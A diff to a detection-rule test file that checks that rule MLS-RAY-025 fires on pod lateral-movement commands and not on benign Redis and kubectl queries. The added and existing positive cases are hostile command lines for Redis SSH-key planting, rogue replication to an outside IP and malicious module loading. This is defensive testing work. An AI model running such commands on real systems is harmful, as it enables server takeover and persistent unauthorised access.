@@ -39,6 +39,8 @@ describe('discovery and lateral movement from a pod', () => {
       'kubeletctl -s 10.0.0.1 scan rce',
       'redis-cli -h ray-head.ml.svc -p 6379 CONFIG SET dir /root/.ssh',
       'redis-cli -h 10.0.3.7 slaveof 203.0.113.5 6379',
+      'redis-cli -h 10.0.3.7 config set dbfilename authorized_keys',
+      'redis-cli -h 10.0.3.7 MODULE LOAD /tmp/exp.so',
     ]) expect(fired(line), line).toContain('MLS-RAY-025');
   });
 
@@ -54,6 +56,9 @@ describe('discovery and lateral movement from a pod', () => {
       'curl -s http://localhost:8265/api/version',
       'redis-cli -h redis ping',
       'redis-cli -h redis CONFIG GET maxmemory',
+      'redis-cli -h redis CONFIG GET dir',
+      'redis-cli -h redis SET dir x',
+      'redis-cli -h redis MODULE LIST',
       'kubectl get pods',
       'kubectl cluster-info',
       'nmap --version',
